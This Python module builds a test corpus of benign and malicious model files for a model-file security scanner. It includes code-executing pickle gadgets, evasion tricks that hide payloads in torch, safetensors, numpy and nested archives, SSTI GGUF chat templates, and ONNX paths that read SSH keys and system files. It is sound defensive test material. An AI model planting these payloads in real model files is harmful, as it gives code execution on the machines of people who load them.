"""Benign and malicious model files of every format annexa checks, built in code (nothing is downloaded).

Each ``Sample`` carries the exact verdict of ``weights-safe-format`` and the globals (or issue kinds) it
must name. The pickles are assembled opcode by opcode, so no gadget module needs to be importable; the
bench (`bench/models_bench.py`) writes the same corpus to disk for the other scanners.
"""

from __future__ import annotations

import bz2
import gzip
import io
import json
import lzma
import struct
import tarfile
import zipfile
from collections.abc import Iterable
from dataclasses import dataclass, field


@dataclass(frozen=True)
class Sample:
    """One corpus file: its path, bytes, expected verdict, and what the finding must name."""

    name: str
    path: str
    data: bytes
    verdict: str
    malicious: bool
    globals: tuple[str, ...] = ()
    kinds: tuple[str, ...] = ()
    member: str | None = None
    note: str = ""
    tags: tuple[str, ...] = field(default=())


# --- a tiny pickle assembler ------------------------------------------------------------------------------


class P:
    """Assemble a pickle opcode by opcode (protocol 2 uses GLOBAL, 4 uses STACK_GLOBAL)."""

    def __init__(self, proto: int = 2) -> None:
        self.proto = proto
        self.b = bytearray(b"\x80" + bytes([proto])) if proto >= 2 else bytearray()

    def raw(self, data: bytes) -> P:
        self.b += data
        return self

    def s(self, text: str) -> P:
        enc = text.encode()
        if self.proto >= 4 and len(enc) < 256:
            return self.raw(b"\x8c" + bytes([len(enc)]) + enc)
        return self.raw(b"X" + struct.pack("<I", len(enc)) + enc)

    def i(self, n: int) -> P:
        return self.raw(b"K" + bytes([n]) if 0 <= n < 256 else b"J" + struct.pack("<i", n))

    def glob(self, module: str, name: str) -> P:
        if self.proto >= 4:
            return self.s(module).s(name).raw(b"\x93")
        return self.raw(b"c" + module.encode() + b"\n" + name.encode() + b"\n")

    def call(self, module: str, name: str, *args: str) -> P:
        self.glob(module, name).raw(b"(")
        for a in args:
            self.s(a)
        return self.raw(b"tR")

    def done(self) -> bytes:
        return bytes(self.b + b".")


def evil(module: str, name: str, *args: str, proto: int = 2) -> bytes:
    """A pickle whose only act is calling ``module.name(*args)``."""
    return P(proto).call(module, name, *args).done()


def ordered_dict_pickle() -> bytes:
    """A benign pickle: an OrderedDict of plain values (what many state dicts look like)."""
    return P(2).glob("collections", "OrderedDict").raw(b")R").s("lr").raw(b"G?\x1a6\xe2\xeb\x1cC-s").done()


def torch_data_pkl(proto: int = 2, extra: bytes = b"") -> bytes:
    """A state dict as ``torch.save`` writes it: OrderedDict of tensors whose storages are persistent ids."""
    p = P(proto).glob("collections", "OrderedDict").raw(b")R").s("weight")
    p.glob("torch._utils", "_rebuild_tensor_v2").raw(b"(")
    p.raw(b"(").s("storage").glob("torch", "FloatStorage").s("0").s("cpu").i(4).raw(b"tQ")
    p.i(0).i(4).raw(b"\x85").i(1).raw(b"\x85\x89")
    p.glob("collections", "OrderedDict").raw(b")R").raw(b"tR")
    p.raw(b"s" + extra)
    return p.done()


def torch_zip(data_pkl: bytes, extra: Iterable[tuple[str, bytes]] = (), compress: int = zipfile.ZIP_STORED) -> bytes:
    """The PyTorch zip checkpoint layout (``archive/data.pkl``, ``archive/data/0``, ``version``...)."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", compress) as z:
        z.writestr("archive/data.pkl", data_pkl)
        z.writestr("archive/byteorder", "little")
        z.writestr("archive/data/0", struct.pack("<4f", 1.0, 2.0, 3.0, 4.0))
        for name, payload in extra:
            z.writestr(name, payload)
        z.writestr("archive/version", "3\n")
    return buf.getvalue()


def zip_of(members: Iterable[tuple[str, bytes]], compress: int = zipfile.ZIP_DEFLATED) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", compress) as z:
        for name, payload in members:
            z.writestr(name, payload)
    return buf.getvalue()


def tar_of(members: Iterable[tuple[str, bytes]]) -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.USTAR_FORMAT) as t:
        for name, payload in members:
            info = tarfile.TarInfo(name)
            info.size = len(payload)
            t.addfile(info, io.BytesIO(payload))
    return buf.getvalue()


def legacy_torch_tar(pickle_member: bytes, second_record: bytes | None = None) -> bytes:
    """The pre-1.6 ``torch.save`` tar layout: sys_info_p, pickle, storages, tensors.

    ``storages`` is a count, then per storage a pickled (key, location, type) record and its raw bytes;
    ``second_record`` replaces the second record's pickle (a payload hidden past the first raw data).
    """
    sys_info = P(2).raw(b"}").s("little_endian").raw(b"\x88s").done()
    storages = P(2).i(2).done()
    for key in ("0", "1"):
        record = P(2).s(key).s("cpu").glob("torch", "FloatStorage").raw(b"\x87").done()
        storages += second_record if key == "1" and second_record else record
        storages += struct.pack("<q", 4) + struct.pack("<4f", 1, 2, 3, 4)
    storages += P(2).raw(b"]").done()
    tensors = P(2).i(1).done() + P(2).s("t0").s("0").glob("torch", "FloatTensor").raw(b"\x87").done()
    tensors += struct.pack("<ii", 1, 0) + struct.pack("<qqq", 4, 1, 0)
    return tar_of([("sys_info_p", sys_info), ("pickle", pickle_member), ("storages", storages), ("tensors", tensors)])


def legacy_torch_raw() -> bytes:
    """Pre-zip ``torch.save`` without tar: magic, protocol, sys info, object, storage keys, then raw storage."""
    magic = P(2).raw(b"\x8a\x0a" + (0x1950A86A20F9469CFC6C).to_bytes(10, "little")).done()
    proto = P(2).raw(b"M\xe9\x03").done()
    sys_info = P(2).raw(b"}").s("little_endian").raw(b"\x88s").done()
    keys = P(2).raw(b"]").s("0").raw(b"a").done()
    storage = struct.pack("<q", 32) + struct.pack("<4f", 1, 2, 3, 4) * 2
    return magic + proto + sys_info + torch_data_pkl() + keys + storage


def npy(descr: str, shape: tuple[int, ...], body: bytes) -> bytes:
    header = repr({"descr": descr, "fortran_order": False, "shape": shape}).encode()
    header += b" " * (63 - (len(header) + 10) % 64) + b"\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header + body


def object_array_pickle(inner_global: tuple[str, str] | None) -> bytes:
    """The pickle numpy writes after an object-dtype ``.npy`` header (one element)."""
    p = P(2).glob("numpy.core.multiarray", "_reconstruct").glob("numpy", "ndarray").i(0).raw(b"\x85")
    p.s("b").raw(b"\x87R(").i(1).i(1).raw(b"\x85")
    p.glob("numpy", "dtype").s("O8").raw(b"\x89\x88\x87R(").i(3).s("|").raw(b"NNN").i(-1).i(-1).i(63).raw(b"tb")
    p.raw(b"\x89]")
    if inner_global:
        p.call(*inner_global, "id")
    else:
        p.s("text")
    p.raw(b"atb")
    return p.done()


def joblib_pickle(dtype: str = "f8", nested: bytes | None = None) -> bytes:
    """joblib's layout: a NumpyArrayWrapper, its BUILD, then the raw array bytes (or a nested pickle)."""
    p = P(4).glob("joblib.numpy_pickle", "NumpyArrayWrapper").raw(b")\x81}(")
    p.s("subclass").glob("numpy", "ndarray").s("shape").i(3).raw(b"\x85").s("order").s("C")
    p.s("dtype").glob("numpy", "dtype").s(dtype).raw(b"\x89\x88\x87R(").i(3).s("<").raw(b"NNN")
    p.i(-1).i(-1).i(0).raw(b"tb").s("allow_mmap").raw(b"\x89")
    if nested is None:
        p.s("numpy_array_alignment_bytes").i(16)
    p.raw(b"ub")
    if nested is None:
        pad = 16 - (len(p.b) + 1) % 16
        p.raw(bytes([pad]) + b"\xff" * pad + struct.pack("<3d", 1, 2, 3))
    else:
        p.raw(nested)
    return p.done()


def safetensors(header: dict[str, object] | bytes, data: bytes) -> bytes:
    raw = header if isinstance(header, bytes) else json.dumps(header).encode()
    return struct.pack("<Q", len(raw)) + raw + data


def gguf(template: str | None) -> bytes:
    def s(text: str) -> bytes:
        enc = text.encode()
        return struct.pack("<Q", len(enc)) + enc

    kvs = [s("general.architecture") + struct.pack("<I", 8) + s("llama")]
    kvs.append(s("tokenizer.ggml.tokens") + struct.pack("<IIQ", 9, 8, 3) + s("<s>") + s("</s>") + s("hi"))
    kvs.append(s("llama.context_length") + struct.pack("<II", 4, 4096))
    if template is not None:
        kvs.append(s("tokenizer.chat_template") + struct.pack("<I", 8) + s(template))
    return b"GGUF" + struct.pack("<IQQ", 3, 0, len(kvs)) + b"".join(kvs)


def _varint(n: int) -> bytes:
    out = bytearray()
    while True:
        byte = n & 0x7F
        n >>= 7
        out.append(byte | (0x80 if n else 0))
        if not n:
            return bytes(out)


def _pb(field: int, value: bytes | int | str) -> bytes:
    if isinstance(value, int):
        return _varint(field << 3) + _varint(value)
    data = value.encode() if isinstance(value, str) else value
    return _varint(field << 3 | 2) + _varint(len(data)) + data


def onnx(location: str | None = None, domain: str = "", op: str = "Relu", function: bool = False) -> bytes:
    """A small ONNX ModelProto: one node, one initializer (optionally with external data)."""
    node = _pb(1, "x") + _pb(2, "y") + _pb(3, "n0") + _pb(4, op) + (_pb(7, domain) if domain else b"")
    tensor = _pb(1, 4) + _pb(2, 1) + _pb(8, "w")
    if location is not None:
        tensor += _pb(13, _pb(1, "location") + _pb(2, location)) + _pb(14, 1)
    else:
        tensor += _pb(9, struct.pack("<4f", 1, 2, 3, 4))
    value_type = _pb(2, _pb(1, _pb(1, 1) + _pb(2, _pb(1, _pb(1, 4)))))
    graph = _pb(1, node) + _pb(2, "g") + _pb(5, tensor) + _pb(11, _pb(1, "x") + value_type)
    graph += _pb(12, _pb(1, "y") + value_type)
    model = _pb(1, 8) + _pb(2, "annexa-corpus") + _pb(7, graph) + _pb(8, _pb(1, "") + _pb(2, 17))
    if domain:
        model += _pb(8, _pb(1, domain) + _pb(2, 1))
    if function:
        body = _pb(1, "X") + _pb(2, "Y") + _pb(4, "Relu")
        opset = _pb(9, _pb(1, "") + _pb(2, 17))
        model += _pb(25, _pb(1, op) + _pb(4, "X") + _pb(5, "Y") + _pb(7, body) + opset + _pb(10, domain))
    return model


def keras_config(layers: list[dict[str, object]]) -> dict[str, object]:
    return {
        "module": "keras",
        "class_name": "Sequential",
        "config": {"name": "sequential", "layers": layers},
        "registered_name": None,
    }


DENSE = {"module": "keras.layers", "class_name": "Dense", "config": {"name": "dense", "units": 4}}
LAMBDA = {
    "module": "keras.layers",
    "class_name": "Lambda",
    "config": {"name": "shell", "function": {"class_name": "__lambda__", "config": {"code": "4wEAAAAAAAAA"}}},
}
FOREIGN = {"module": "os", "class_name": "function", "config": "system", "registered_name": "system"}


def keras_zip(config: dict[str, object]) -> bytes:
    return zip_of(
        [
            ("metadata.json", json.dumps({"keras_version": "3.8.0"}).encode()),
            ("config.json", json.dumps(config).encode()),
            ("model.weights.h5", b"\x89HDF\r\n\x1a\n" + b"\0" * 64),
        ]
    )


def h5(config: dict[str, object] | None) -> bytes:
    """HDF5 signature plus a ``model_config`` attribute holding the JSON (as Keras 2 ``model.save`` does)."""
    body = b"\x89HDF\r\n\x1a\n" + b"\0" * 504 + b"model_config\0\0\0\0"
    if config is not None:
        body += json.dumps(config).encode()
    return body + b"\0" * 128


def zip_bomb() -> bytes:
    return zip_of([("archive/data.pkl", torch_data_pkl()), ("archive/data/0", b"\0" * (20 * 1024 * 1024))])


def overlapping_zip() -> bytes:
    """Two central-directory entries pointing at the same local header (the non-recursive bomb trick)."""
    data = bytearray(zip_of([("a.pkl", ordered_dict_pickle()), ("b.pkl", ordered_dict_pickle())], zipfile.ZIP_STORED))
    cd = data.rfind(b"PK\x01\x02")
    struct.pack_into("<I", data, cd + 42, 0)
    return bytes(data)


def encrypted_flag_zip(payload: bytes) -> bytes:
    """A stored member whose "encrypted" flag is set although its bytes are plain (PyTorch reads it anyway)."""
    data = bytearray(torch_zip(payload))
    for sig, flag_at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = data.find(sig)
        struct.pack_into("<H", data, at + flag_at, struct.unpack_from("<H", data, at + flag_at)[0] | 1)
    return bytes(data)


def nested(depth: int, payload: bytes) -> bytes:
    """``payload`` wrapped in ``depth`` alternating zip/tar/gzip layers."""
    for level in range(depth):
        kind = level % 3
        if kind == 0:
            payload = zip_of([(f"layer{level}/model.bin", payload)])
        elif kind == 1:
            payload = tar_of([(f"layer{level}/model.bin", payload)])
        else:
            payload = gzip.compress(payload)
    return payload


LFS = b"version https://git-lfs.github.com/spec/v1\noid sha256:" + b"ab" * 32 + b"\nsize 1342177280\n"

GOOD_TEMPLATE = (
    "{%- set ns = namespace(system='') -%}{%- for m in messages -%}{%- if m['role'] == 'system' -%}"
    "{%- set ns.system = m['content'] -%}{%- else -%}<|im_start|>{{ m['role'] }}\n{{ m['content'] }}<|im_end|>\n"
    "{%- endif -%}{%- endfor -%}{%- if add_generation_prompt -%}<|im_start|>assistant\n{%- endif -%}"
)
EVIL_TEMPLATE = (
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}{% for m in messages %}{{ m.content }}{% endfor %}"
)
ATTR_TEMPLATE = "{{ (lipsum|attr('\\x5f\\x5fglobals\\x5f\\x5f')).os.system('id') }}"

GADGETS: tuple[tuple[str, str, tuple[str, ...]], ...] = (
    ("posix", "system", ("id",)),
    ("builtins", "exec", ("print(1)",)),
    ("builtins", "eval", ("1",)),
    ("pip", "main", ("install",)),
    ("pydoc", "pipepager", ("x", "id")),
    ("timeit", "timeit", ("id",)),
    ("sys", "exit", ()),
    ("asyncio.unix_events", "_UnixSubprocessTransport", ()),
    ("logging", "FileHandler", ("/tmp/x",)),
    ("pkgutil", "resolve_name", ("os:system",)),
    ("torch.utils.collect_env", "run", ("id",)),
    ("uuid", "_get_command_stdout", ("id",)),
    ("importlib", "import_module", ("os",)),
    ("marshal", "loads", ("x",)),
    ("code", "InteractiveInterpreter", ()),
    ("torch.hub", "load", ("evil/repo", "m")),
    ("mailcap", "findmatch", ()),
    ("multiprocessing.util", "spawnv_passfds", ("id",)),
    ("numpy", "load", ("x.npy",)),
    ("pandas", "read_csv", ("x",)),
    ("runpy", "run_path", ("x.py",)),
    ("subprocess", "Popen", ("id",)),
)
"""Alternative gadgets: code execution without the usual os/subprocess names."""


def _memo_trick() -> bytes:
    """Module and name pass through the memo (written early, overwritten, read back later)."""
    p = P(4).s("collections").raw(b"\x94")  # memo 0 = "collections"
    p.s("OrderedDict").raw(b"\x94")  # memo 1 = "OrderedDict"
    p.raw(b"0").raw(b"0")  # pop both
    p.s("os").raw(b"q\x00")  # BINPUT 0 overwrites "collections" with "os"
    p.s("system").raw(b"q\x01")  # BINPUT 1 = "system"
    p.raw(b"00")
    p.raw(b"h\x00h\x01\x93").s("id").raw(b"\x85R")
    return p.done()


def _getattr_chain() -> bytes:
    p = P(2).glob("builtins", "getattr").raw(b"(").glob("builtins", "__import__").s("os").raw(b"\x85R").s("system")
    return p.raw(b"tR").s("id").raw(b"\x85R").done()


def _dotted_escape() -> bytes:
    """A dotted STACK_GLOBAL name that walks from an allowed helper to its module's globals."""
    return P(4).glob("torch._utils", "_rebuild_tensor_v2.__globals__").done()


def _build_overwrite() -> bytes:
    """BUILD on an imported global sets attributes on it (modelscan #85 style)."""
    p = P(2).glob("collections", "OrderedDict").raw(b"N}").s("__reduce__").s("x").raw(b"s\x86b")
    return p.done()


def corpus() -> list[Sample]:
    """Every sample, benign and malicious."""
    out: list[Sample] = []

    def add(name: str, path: str, data: bytes, verdict: str, malicious: bool, **kw: object) -> None:
        out.append(Sample(name, path, data, verdict, malicious, **kw))  # type: ignore[arg-type]

    # --- pickles -----------------------------------------------------------------------------------------
    add("pickle-ordereddict", "models/state.pkl", ordered_dict_pickle(), "pass", False)
    add("pickle-protocol0-benign", "models/p0.pkl", b"(dp0\nVa\np1\nI1\ns.", "pass", False)
    add(
        "pickle-posix-system", "models/evil.pkl", evil("posix", "system", "id"), "fail", True, globals=("posix.system",)
    )
    add("pickle-protocol0-system", "models/evil0.pkl", evil("os", "system", "id", proto=0), "fail", True,
        globals=("os.system",))  # fmt: skip
    add("pickle-protocol4-stackglobal", "models/evil4.pkl", evil("os", "system", "id", proto=4), "fail", True,
        globals=("os.system",))  # fmt: skip
    add("pickle-joblib-ext", "models/model.joblib", evil("posix", "system", "id"), "fail", True,
        globals=("posix.system",))  # fmt: skip
    add("pickle-nonstandard-extension", "src/model.weights", evil("posix", "system", "id"), "fail", True,
        globals=("posix.system",))  # fmt: skip
    add("pickle-named-txt", "docs/notes.txt", evil("os", "system", "id", proto=0), "fail", True,
        globals=("os.system",), note="not in the weights class: found by content")  # fmt: skip
    add("pickle-memo-trick", "models/memo.pkl", _memo_trick(), "fail", True, globals=("os.system",))
    add("pickle-getattr-chain", "models/chain.pkl", _getattr_chain(), "fail", True,
        globals=("builtins.__import__", "builtins.getattr"), kinds=("unsafe-call", "unsafe-global"))  # fmt: skip
    add("pickle-dotted-escape", "models/dotted.pkl", _dotted_escape(), "fail", True,
        globals=("torch._utils._rebuild_tensor_v2.__globals__",))  # fmt: skip
    add("pickle-build-overwrite", "models/build.pkl", _build_overwrite(), "fail", True,
        globals=("collections.OrderedDict",), kinds=("unsafe-call",))  # fmt: skip
    add("pickle-numpy-builtins", "models/np.pkl",
        P(4).glob("builtins", "dict.get").raw(b"(").glob("numpy", "__builtins__").s("eval").raw(b"tR").done(),
        "fail", True, globals=("builtins.dict.get", "numpy.__builtins__"))  # fmt: skip
    add("pickle-ext-opcode", "models/ext.pkl", b"\x80\x02\x82\x01)R.", "fail", True, globals=("copyreg.ext:1",))
    for module, name, args in GADGETS:
        full = f"{module}.{name}"
        add(f"gadget-{full}", f"models/gadget_{full.replace('.', '_')}.pkl", evil(module, name, *args, proto=4),
            "fail", True, globals=(full,), tags=("gadget",))  # fmt: skip
    good = torch_data_pkl()
    add("pickle-truncated", "models/cut.pkl", good[: len(good) // 2], "fail", False, kinds=("malformed",),
        note="broken file: fails closed")  # fmt: skip
    add("pickle-unknown-opcode", "models/badop.pkl", b"\x80\x02\xf0.", "fail", False, kinds=("malformed",))
    add("pickle-gzip", "models/model.pkl.gz", gzip.compress(evil("posix", "system", "id")), "fail", True,
        globals=("posix.system",), member="<gzip>")  # fmt: skip
    add("pickle-bz2", "models/model.pkl.bz2", bz2.compress(evil("posix", "system", "id")), "fail", True,
        globals=("posix.system",), member="<bzip2>")  # fmt: skip
    add("pickle-xz", "models/model.pkl.xz", lzma.compress(evil("posix", "system", "id")), "fail", True,
        globals=("posix.system",), member="<xz>")  # fmt: skip
    add("pickle-gzip-benign", "models/state.pkl.gz", gzip.compress(ordered_dict_pickle()), "pass", False)

    # --- torch -------------------------------------------------------------------------------------------
    add("torch-zip-benign", "models/model.pt", torch_zip(torch_data_pkl()), "pass", False)
    add("torch-zip-proto4-benign", "models/model4.pth", torch_zip(torch_data_pkl(4)), "pass", False)
    add("torch-zip-evil-datapkl", "models/evil.pt", torch_zip(evil("posix", "system", "id")), "fail", True,
        globals=("posix.system",), member="archive/data.pkl")  # fmt: skip
    add("torch-zip-hidden-member", "models/hidden.pt",
        torch_zip(torch_data_pkl(), [("archive/extra/readme.txt", evil("os", "system", "id", proto=0))]),
        "fail", True, globals=("os.system",), member="archive/extra/readme.txt")  # fmt: skip
    add("torch-zip-pickle-as-storage", "models/storage.pt",
        torch_zip(torch_data_pkl(), [("archive/data/1", evil("posix", "system", "id"))]),
        "fail", True, globals=("posix.system",), member="archive/data/1")  # fmt: skip
    add("torch-zip-any-name", "models/checkpoint.bin",
        zip_of([("weights/tensor.json", evil("builtins", "exec", "x", proto=4))]),
        "fail", True, globals=("builtins.exec",), member="weights/tensor.json")  # fmt: skip
    add("torch-legacy-tar-benign", "models/legacy.tar.pt", legacy_torch_tar(torch_data_pkl()), "pass", False)
    add("torch-legacy-tar-evil", "models/legacy_evil.pt", legacy_torch_tar(evil("posix", "system", "id")), "fail",
        True, globals=("posix.system",), member="pickle")  # fmt: skip
    add("torch-legacy-tar-hidden-record", "models/legacy_record.pt",
        legacy_torch_tar(torch_data_pkl(), P(2).call("posix", "system", "id").raw(b"0").s("1").s("cpu")
                         .glob("torch", "FloatStorage").raw(b"\x87").done()),
        "fail", True, globals=("posix.system",), member="storages")  # fmt: skip
    add("torch-legacy-raw-benign", "models/legacy_raw.pt", legacy_torch_raw(), "pass", False)
    add("torch-zip-appended", "models/polyglot.pkl",
        ordered_dict_pickle() + zip_of([("x/data.pkl", evil("posix", "system", "id"))]),
        "fail", True, globals=("posix.system",), member="x/data.pkl")  # fmt: skip

    # --- numpy / joblib ----------------------------------------------------------------------------------
    add("npy-float-benign", "models/arr.npy", npy("<f4", (4,), struct.pack("<4f", 1, 2, 3, 4)), "pass", False)
    add("npy-object", "models/obj.npy", npy("|O", (1,), object_array_pickle(None)), "fail", True,
        kinds=("object-dtype",))  # fmt: skip
    add("npy-object-gadget", "models/objevil.npy", npy("|O", (1,), object_array_pickle(("posix", "system"))),
        "fail", True, globals=("posix.system",), kinds=("object-dtype", "unsafe-global"))  # fmt: skip
    add("npz-benign", "models/arrays.npz", zip_of([("a.npy", npy("<i8", (2,), struct.pack("<2q", 1, 2)))]),
        "pass", False)  # fmt: skip
    add("npz-object", "models/mixed.npz",
        zip_of([("a.npy", npy("<i8", (0,), b"")), ("b.npy", npy("|O", (1,), object_array_pickle(("os", "system"))))]),
        "fail", True, globals=("os.system",), kinds=("object-dtype", "unsafe-global"), member="b.npy")  # fmt: skip
    add("joblib-array-benign", "models/scaler.joblib", joblib_pickle(), "pass", False)
    add("joblib-object-array-evil", "models/obj.joblib",
        joblib_pickle("O8", nested=evil("posix", "system", "id")), "fail", True, globals=("posix.system",))  # fmt: skip

    # --- safetensors -------------------------------------------------------------------------------------
    tensors = {"w": {"dtype": "F32", "shape": [2, 2], "data_offsets": [0, 16]}, "__metadata__": {"format": "pt"}}
    add("safetensors-benign", "models/model.safetensors", safetensors(tensors, b"\0" * 16), "pass", False)
    add("safetensors-offset-outside", "models/bad.safetensors",
        safetensors({"w": {"dtype": "F32", "shape": [4], "data_offsets": [0, 16]}}, b"\0" * 8),
        "fail", False, kinds=("malformed",))  # fmt: skip
    add("safetensors-duplicate-key", "models/dup.safetensors",
        safetensors(b'{"w":{"dtype":"F32","shape":[1],"data_offsets":[0,4]},'
                    b'"w":{"dtype":"F32","shape":[1],"data_offsets":[0,4]}}', b"\0" * 4),
        "fail", True, kinds=("malformed",), note="parser differential")  # fmt: skip
    add("safetensors-bad-dtype", "models/dtype.safetensors",
        safetensors({"w": {"dtype": "PY_OBJECT", "shape": [1], "data_offsets": [0, 4]}}, b"\0" * 4),
        "fail", False, kinds=("malformed",))  # fmt: skip

    gap = {
        "a": {"dtype": "U8", "shape": [4], "data_offsets": [0, 4]},
        "b": {"dtype": "U8", "shape": [4], "data_offsets": [4 + 64, 72]},
    }
    add("safetensors-hidden-gap", "models/gap.safetensors",
        safetensors(gap, b"\0" * 4 + evil("posix", "system", "id").ljust(64, b"\0") + b"\0" * 4),
        "fail", True, kinds=("malformed",), note="bytes no tensor owns can smuggle a payload")  # fmt: skip
    add("safetensors-trailing-bytes", "models/tail.safetensors", safetensors(tensors, b"\0" * 16 + b"PK\x05\x06"),
        "fail", True, kinds=("malformed",))  # fmt: skip

    # --- GGUF --------------------------------------------------------------------------------------------
    add("gguf-benign-template", "models/model.gguf", gguf(GOOD_TEMPLATE), "pass", False)
    add("gguf-no-template", "models/plain.gguf", gguf(None), "pass", False)
    add("gguf-ssti-template", "models/evil.gguf", gguf(EVIL_TEMPLATE), "fail", True, kinds=("template-code",))
    add("gguf-attr-escape-template", "models/attr.gguf", gguf(ATTR_TEMPLATE), "fail", True, kinds=("template-code",))

    # --- ONNX --------------------------------------------------------------------------------------------
    add("onnx-benign", "models/model.onnx", onnx(), "pass", False)
    add("onnx-external-inside", "models/ext_ok.onnx", onnx("weights/model.data"), "pass", False)
    add("onnx-external-traversal", "models/ext.onnx", onnx("../../../../etc/passwd"), "fail", True,
        kinds=("external-data",))  # fmt: skip
    add("onnx-external-absolute", "models/abs.onnx", onnx("/root/.ssh/id_rsa"), "fail", True,
        kinds=("external-data",))  # fmt: skip
    add("onnx-custom-op", "models/custom.onnx", onnx(domain="com.evil.ops", op="Exec"), "fail", True,
        globals=("com.evil.ops.Exec",), kinds=("custom-op",))  # fmt: skip
    add("onnx-local-function", "models/func.onnx", onnx(domain="local.fn", op="MyRelu", function=True),
        "pass", False)  # fmt: skip

    # --- Keras -------------------------------------------------------------------------------------------
    add("keras-benign", "models/model.keras", keras_zip(keras_config([DENSE])), "pass", False)
    add("keras-lambda", "models/lambda.keras", keras_zip(keras_config([DENSE, LAMBDA])), "fail", True,
        globals=("keras.layers.Lambda",), kinds=("lambda-layer",), member="config.json")  # fmt: skip
    add("keras-foreign-module", "models/cve.keras",
        keras_zip(keras_config([{**DENSE, "config": {"name": "d", "activation": FOREIGN}}])),
        "fail", True, globals=("os.system",), kinds=("foreign-module",), member="config.json")  # fmt: skip
    add("h5-benign", "models/model.h5", h5(keras_config([DENSE])), "pass", False)
    add("h5-weights-only", "models/weights.h5", b"\x89HDF\r\n\x1a\n" + b"\0" * 256, "pass", False)
    add("h5-lambda", "models/lambda.h5", h5(keras_config([LAMBDA])), "fail", True,
        globals=("keras.layers.Lambda",), kinds=("lambda-layer",))  # fmt: skip

    # --- containers and bounds ---------------------------------------------------------------------------
    add("nested-zip-tar-gzip-evil", "models/bundle.bin", nested(3, evil("posix", "system", "id")), "fail", True,
        globals=("posix.system",), member="<gzip>/layer1/model.bin/layer0/model.bin")  # fmt: skip
    add("nested-too-deep", "models/deep.bin", nested(6, ordered_dict_pickle()), "fail", True, kinds=("limit",))
    add("tar-benign", "models/bundle.tar", tar_of([("model.safetensors", safetensors(tensors, b"\0" * 16))]),
        "pass", False)  # fmt: skip
    add("zip-bomb-ratio", "models/bomb.pt", zip_bomb(), "fail", True, kinds=("limit",), member="archive/data/0")
    add("zip-overlapping-entries", "models/overlap.pt", overlapping_zip(), "fail", True, kinds=("limit",))
    corrupt = bytearray(torch_zip(torch_data_pkl()))
    cd = corrupt.rfind(b"PK\x01\x02")
    corrupt[cd : cd + 4] = b"XX\x01\x02"
    add("zip-corrupt-central-directory", "models/corrupt.pt", bytes(corrupt), "fail", False, kinds=("malformed",))
    add("zip-encrypted-flag-bypass", "models/flag.pt", encrypted_flag_zip(evil("posix", "system", "id")), "fail",
        True, globals=("posix.system",), member="archive/data.pkl")  # fmt: skip
    add("seven-zip", "models/archive.bin", b"7z\xbc\xaf\x27\x1c\x00\x04" + b"\0" * 24, "unknown", False)

    # --- undecidable -------------------------------------------------------------------------------------
    add("lfs-pointer", "models/big.safetensors", LFS, "unknown", False)
    add("unknown-format", "models/mystery.bin", b"\x13\x37 not a model format \x00\x01\x02" * 8, "unknown", False)
    return out
